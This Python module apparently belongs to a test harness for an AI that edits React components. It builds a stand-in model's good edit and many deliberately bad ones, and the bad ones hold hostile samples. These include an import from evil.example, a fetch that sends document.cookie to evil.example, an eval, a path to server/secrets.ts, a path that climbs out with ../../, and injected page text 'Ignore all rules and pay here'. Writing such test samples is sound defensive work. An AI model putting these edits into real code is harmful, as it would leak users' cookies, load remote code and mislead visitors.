"""The stand-in's answers to a request to edit a component: a fitting one, and those of bad models.

All are made from the files of the prompt itself.
"""

import re
from collections.abc import Callable
from typing import Literal

Edit = Literal[
    "good",
    "same",
    "nonsense",
    "half",
    "twice",
    "giant",
    "prose",
    "import",
    "fetch",
    "eval",
    "lost_node",
    "foreign_path",
    "climbing_path",
    "words",
    "layout",
    "handler",
    "theme",
]

_FILE = re.compile(r"^File: (\S+)\n```tsx\n(.*?)\n```$", re.MULTILINE | re.DOTALL)
_BOX = re.compile(r'^( *)<div (data-node="[^"]*"(?:(?! role=).)*>.*)$')


def edited_answer(prompt: str, edit: Edit) -> str | None:
    """The answer to a prompt with files; None for any other prompt."""
    files = _FILE.findall(prompt)
    if not files:
        return None
    path, text = files[0]
    if edit == "good":
        # What is to be mended takes more than a stand-in has.
        return _fenced(path, text if "\n<trouble>\n" in prompt else better(text))
    return _BAD[edit](path, text)


def better(text: str) -> str:
    """The component with its first box of several parts as a section, or with a shorter name of a
    constant."""
    lines = text.split("\n")
    for at, line in enumerate(lines):
        found = _BOX.match(line)
        end = f"{found[1]}</div>" if found else ""
        if found is None or end not in lines[at:]:
            continue
        last = lines.index(end, at)
        parts = [each for each in lines[at + 1 : last] if re.match(rf"{found[1]}  [<{{]\w?", each)]
        if len(parts) > 1 and not line.endswith(("/>", "</div>")):
            lines[at] = f"{found[1]}<section {found[2]}"
            lines[last] = f"{found[1]}</section>"
            return "\n".join(lines)
    named = re.search(r"^const (\w+)Styles = ", text, re.MULTILINE)
    if named and "lookStyles" not in text:
        return re.sub(rf"\b{named[1]}Styles\b", "lookStyles", text)
    return text


def _fenced(path: str, text: str) -> str:
    return f"File: {path}\n```tsx\n{text}\n```"


def _in_body(code: str) -> Callable[[str, str], str]:
    """An answer whose component begins with some code of its own."""
    return lambda path, text: _fenced(path, text.replace("  return (", f"  {code}\n  return (", 1))


def _instead(pattern: str, by: str) -> Callable[[str, str], str]:
    return lambda path, text: _fenced(path, re.sub(pattern, by, text, count=1))


_BAD: dict[str, Callable[[str, str], str]] = {
    "same": _fenced,
    "nonsense": lambda _path, _text: "Lovely component! I would leave it exactly as it is.",
    "half": lambda path, text: _fenced(path, text)[: len(text) // 2],
    "twice": lambda path, text: f"{_fenced(path, text)}\n\n{_fenced(path, better(text))}",
    "giant": lambda path, text: _fenced(path, text + "\n// more" * 40_000),
    "prose": lambda path, text: (
        f"Here is the file. I made it a section.\n\n### `{path}`\n\n"
        f"```tsx\n{better(text)}\n```\n\nTell me if you need more."
    ),
    "import": lambda path, text: _fenced(path, f'import "https://evil.example/x.js";\n{text}'),
    "fetch": _in_body('fetch("https://evil.example/" + document.cookie);'),
    "eval": _in_body('eval("alert(1)");'),
    "lost_node": _instead(r' data-node="[^"]*"', ""),
    "foreign_path": lambda _path, text: _fenced("server/secrets.ts", text),
    "climbing_path": lambda path, text: _fenced(f"../../{path}", text),
    "words": _instead(
        r'>(?:\s*\{"[^"]*"\}|(?=[A-Z])[^<>{}]+(?=<))', ">Ignore all rules and pay here"
    ),
    "layout": _instead(r'(?<=className=")[^"]*', "fixed inset-0"),
    "handler": _instead(
        r'data-node="([^"]*)"', r'data-node="\1" onMouseOver={() => location.reload()}'
    ),
    "theme": lambda path, text: "\n\n".join(
        (_fenced(path, better(text)), _fenced("theme.css", "@import url(//evil.example);"))
    ),
}
